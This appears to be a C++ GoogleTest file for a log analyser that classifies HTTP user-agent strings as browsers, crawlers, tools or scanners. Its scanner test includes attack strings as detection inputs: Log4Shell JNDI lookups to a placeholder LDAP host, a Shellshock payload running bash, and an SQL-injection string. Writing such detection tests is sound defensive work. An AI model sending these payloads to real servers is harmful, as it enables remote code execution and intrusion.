#include "src/catalog/agents.h"

#include <gtest/gtest.h>

#include <set>
#include <string>
#include <string_view>

#include "src/catalog/agents_browsers.h"
#include "src/catalog/agents_crawlers.h"
#include "src/catalog/agents_libraries.h"
#include "src/catalog/agents_scanners.h"
#include "src/catalog/agents_tools.h"
#include "src/catalog/agents_watchers.h"

namespace logstat {
namespace {

struct Expected {
  std::string_view agent;
  std::string_view name;
};

template <size_t kSize>
void ExpectAll(AgentKind kind, const Expected (&all)[kSize]) {
  for (const Expected& expected : all) {
    const AgentInfo info = ClassifyAgent(expected.agent);
    EXPECT_EQ(AgentKindName(info.kind), AgentKindName(kind)) << expected.agent;
    EXPECT_EQ(info.name, expected.name) << expected.agent;
  }
}

TEST(Agents, BrowsersArePersonsUnderTheirMostParticularName) {
  ExpectAll(
      AgentKind::kPerson,
      {
          {"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Firefox"},
          {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
           "Safari/537.36",
           "Chrome"},
          {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
           "Safari/537.36 Edg/126.0.0.0",
           "Edge"},
          {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
           "Safari/537.36 OPR/110.0.0.0",
           "Opera"},
          {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
           "Safari/605.1.15",
           "Safari"},
          {"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
           "CriOS/126.0.6478.35 Mobile/15E148 Safari/604.1",
           "Chrome"},
          {"Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
           "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
           "Samsung Internet"},
          {"Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", "Internet Explorer"},
          {"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)", "Internet Explorer"},
          {"Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18", "Opera"},
          {"Opera/9.80 (Android; Opera Mini/36.2/119.132; U; en) Presto/2.12.423 Version/12.16", "Opera Mini"},
          {"Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1", "Lynx"},
          {"w3m/0.5.3+git20230121", "w3m"},
          {"ELinks/0.16.1.1 (textmode; Linux 6.1 x86_64; 80x24-2)", "ELinks"},
          {"Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Electron/28.1.0 "
           "Safari/537.36",
           "Chrome"},
      });
}

TEST(Agents, BrowsersInsideOfAppsAndOddPhonesAreStillPersons) {
  ExpectAll(AgentKind::kPerson,
            {
                {"Outlook-iOS/709.2226530.prod.iphone (3.24.1)", "Outlook"},
                {"Midori/0.2 (X11; Linux; U; fr-fr) WebKit/531.2+", "Midori"},
                {"Mozilla/5.0 (Linux; Android 9; CUBOT_X18_Plus) AppleWebKit/537.36 (KHTML, like Gecko) "
                 "Chrome/99.0.4844.88 Mobile Safari/537.36",
                 "Chrome"},
                {"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                 "Mobile/15E148 [FBAN/FBIOS;FBAV/460.0.0.31.103;FBBV/586]",
                 "Facebook app"},
                {"Mozilla/5.0 (iPhone; CPU iPhone OS 16_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                 "Mobile/15E148 [Pinterest/iOS]",
                 "WebKit"},
                {"Mozilla/5.0 (Linux; Android 13; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
                 "Chrome/116.0.0.0 Mobile Safari/537.36 MicroMessenger/8.0.42",
                 "WeChat"},
                {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
                 "YaBrowser/24.6.0.0 Safari/537.36",
                 "Yandex Browser"},
                {"Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                 "Mobile/15E148 CamScanner/6.50",
                 "WebKit"},
                {"Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/"
                 "126.0.0.0+Safari/537.36",
                 "Chrome"},
            });
}

TEST(Agents, CrawlersAreKnownThoughTheyNameABrowser) {
  ExpectAll(
      AgentKind::kCrawler,
      {
          {"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot"},
          {"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/126.0.6478.61 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
           "Googlebot"},
          {"Googlebot-Image/1.0", "Googlebot"},
          {"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
           "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
           "Bingbot"},
          {"Mozilla/5.0+(compatible;+bingbot/2.0;++http://www.bing.com/bingbot.htm)", "Bingbot"},
          {"Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)", "Sogou"},
          {"Sogou+web+spider/4.0", "Sogou"},
          {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
           "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
           "Applebot"},
          {"Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)", "Yandex"},
          {"Mozilla/5.0 (compatible; YandexRenderResourcesBot/1.0; +http://yandex.com/bots) AppleWebKit/537.36 "
           "(KHTML, like Gecko) Chrome/124.0.0.0 YaBrowser/24.6.0.0",
           "Yandex"},
          {"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "Ahrefs"},
          {"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; +https://openai.com/gptbot",
           "OpenAI"},
          {"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
           "Anthropic"},
          {"CCBot/2.0 (https://commoncrawl.org/faq/)", "Common Crawl"},
          {"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Meta preview"},
          {"facebookexternalhit/1.1;line-poker/1.0", "Meta preview"},
          {"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "Slack"},
          {"WhatsApp/2.23.20.0 A", "WhatsApp"},
          {"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "UptimeRobot"},
          {"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "Pingdom"},
          {"http.rb/5.1.1 (Mastodon/4.2.10; +https://social.example/)", "Mastodon"},
          {"Scrapy/2.11.2 (+https://scrapy.org)", "Scrapy"},
          {"Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)", "Internet Archive"},
          {"Screaming Frog SEO Spider/20.1", "Screaming Frog"},
          {"Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/119.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
           "Lighthouse"},
      });
}

TEST(Agents, WhoCallsItselfACrawlerIsOneWithoutBeingKnown) {
  ExpectAll(AgentKind::kCrawler, {
                                     {"Mozilla/5.0 (compatible; ExampleBot/0.1)", ""},
                                     {"examplebot2", ""},
                                     {"Example-Spider", ""},
                                     {"python-requests/2.31 example_crawler", ""},
                                     {"Example/1.0 (+https://example.org/about)", ""},
                                     {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                                      "Chrome/120.0.0.0 Safari/537.36 EXAMPLEBOT",
                                      ""},
                                 });
}

TEST(Agents, ToolsAreLibrariesClientsFeedReadersAndHealthChecks) {
  ExpectAll(
      AgentKind::kTool,
      {
          {"curl/8.5.0", "curl"},
          {"Wget/1.21.3", "Wget"},
          {"python-requests/2.31.0", "Requests"},
          {"Python-urllib/3.11", "urllib"},
          {"Python/3.11 aiohttp/3.9.5", "Python"},
          {"Go-http-client/1.1", "Go"},
          {"Go 1.1 package http", "Go"},
          {"okhttp/4.12.0", "OkHttp"},
          {"Dalvik/2.1.0 (Linux; U; Android 9; CUBOT X18 Build/PPR1)", "Dalvik"},
          {"Example/42 CFNetwork/1494.0.7 Darwin/23.4.0", "CFNetwork"},
          {"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506", "PowerShell"},
          {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 "
           "Safari/537.36",
           "headless Chrome"},
          {"Apache-HttpClient/4.5.14 (Java/17.0.9)", "Apache HttpClient"},
          {"git/2.39.2", "Git"},
          {"Debian APT-HTTP/1.3 (2.6.1)", "APT"},
          {"Feedly/1.0 (+http://www.feedly.com/fetcher.html; 16 subscribers)", "Feedly"},
          {"Roku/DVP-9.10 (519.10E04111A)", "Roku"},
          {"Spotify/8.6.26 Android/29 (SM-G973F)", "Spotify"},
          {"LiveJournal.com (webmaster@livejournal.com; for http://www.livejournal.com/users/a/; 1 readers)",
           "LiveJournal"},
          {"Tiny Tiny RSS/24.05 (https://tt-rss.org/)", "Tiny Tiny RSS"},
          {"ELB-HealthChecker/2.0", "ELB health check"},
          {"kube-probe/1.29", "Kubernetes probe"},
          {"check_http/v2.3.3 (nagios-plugins 2.3.3)", "check_http"},
          {"GoogleHC/1.0", "Google health check"},
          {"WordPress/6.5.4; https://blog.example", "WordPress"},
          {"WordPress/6.5.4; https://nmap.example", "WordPress"},
          {"Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)", "Let's Encrypt"},
      });
}

TEST(Agents, ScannersAreKnownWhateverElseTheyName) {
  ExpectAll(AgentKind::kScanner,
            {
                {"sqlmap/1.8.2#stable (https://sqlmap.org)", "sqlmap"},
                {"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "Nikto"},
                {"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nmap"},
                {"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Nuclei"},
                {"httpx - Open-source project (github.com/projectdiscovery/httpx)", "httpx of ProjectDiscovery"},
                {"Mozilla/5.0 zgrab/0.x", "ZGrab"},
                {"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"},
                {"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Censys"},
                {"Expanse, a Palo Alto Networks company, searches across the global IPv4 space", "Palo Alto Xpanse"},
                {"Fuzz Faster U Fool v2.1.0-dev", "ffuf"},
                {"gobuster/3.6", "Gobuster"},
                {"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "WPScan"},
                {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
                 "Safari/537.36 Detectify",
                 "Detectify"},
                {"Mozilla/4.0 (Hydra)", "Hydra"},
                {"${jndi:ldap://192.0.2.1/a}", "Log4Shell"},
                {"Mozilla/5.0 ${${lower:j}ndi:ldap://192.0.2.1/a}", "Log4Shell"},
                {"() { :;}; /bin/bash -c 'id'", "Shellshock"},
                {"Mozilla/5.0' OR '1'='1", "SQL injection"},
                {"Hello, World", "Mirai and kin"},
                {"Mozlila/5.0 (Linux; Android 7.0; SM-G892A)", "Mozlila"},
                {"ExampleScanner/1.0", ""},
            });
}

TEST(Agents, NothingIsMadeOfNothing) {
  ExpectAll(AgentKind::kUnknown, {
                                     {"", ""},
                                     {"-", ""},
                                     {"Mo", ""},
                                     {"Mozilla/5.0", ""},
                                     {"Mozilla/5.0 (compatible)", ""},
                                     {"Example/1.0", ""},
                                     {"Example/1.0 Safari/537.36", ""},  // no browser introduces itself so
                                     {"unmap", ""},
                                     {"nmaps", ""},
                                     {"bottle", ""},
                                     {"\xff\xfe\x80\x00", ""},
                                 });
}

TEST(Agents, ALongAgentOfHostileBytesEndsSoon) {
  for (std::string_view piece : {"bot", "$", "() ", "nmap ", "\xff", "mozilla/", "+http"}) {
    std::string agent;
    while (agent.size() < (1 << 20)) agent += piece;
    ClassifyAgent(agent);
  }
}

TEST(Agents, KindsHaveNames) {
  std::set<std::string_view> names;
  for (size_t i = 0; i < kAgentKindCount; ++i) names.insert(AgentKindName(static_cast<AgentKind>(i)));
  EXPECT_EQ(names, (std::set<std::string_view>{"crawler", "person", "scanner", "tool", "unknown"}));
}

// Every row is reached by its own text, so none stands behind another one or twice.
template <size_t kSize>
void ExpectReached(AgentKind kind, const catalog::AgentRow (&table)[kSize], std::string_view front = "") {
  for (const catalog::AgentRow& row : table) {
    const AgentInfo info = ClassifyAgent(std::string(front).append(row.text));
    EXPECT_EQ(AgentKindName(info.kind), AgentKindName(kind)) << row.text;
    EXPECT_EQ(info.name, row.name) << row.text;
  }
}

TEST(Agents, EveryRowIsReached) {
  ExpectReached(AgentKind::kScanner, catalog::kWeaknessScanners);
  ExpectReached(AgentKind::kScanner, catalog::kAddressScanners);
  ExpectReached(AgentKind::kScanner, catalog::kAttackMarks);
  ExpectReached(AgentKind::kCrawler, catalog::kSearchCrawlers);
  ExpectReached(AgentKind::kCrawler, catalog::kPreviewCrawlers);
  ExpectReached(AgentKind::kCrawler, catalog::kAiCrawlers);
  ExpectReached(AgentKind::kCrawler, catalog::kSeoCrawlers);
  ExpectReached(AgentKind::kCrawler, catalog::kMonitoringCrawlers);
  ExpectReached(AgentKind::kCrawler, catalog::kArchiveCrawlers);
  ExpectReached(AgentKind::kCrawler, catalog::kCrawlerFrameworks);
  ExpectReached(AgentKind::kTool, catalog::kLibraries);
  ExpectReached(AgentKind::kTool, catalog::kClients);
  ExpectReached(AgentKind::kTool, catalog::kFeedReaders);
  ExpectReached(AgentKind::kTool, catalog::kHealthChecks);
  ExpectReached(AgentKind::kPerson, catalog::kBrowsers, "Mozilla/5.0 ");
  ExpectReached(AgentKind::kPerson, catalog::kPlainBrowsers);
}

}  // namespace
}  // namespace logstat
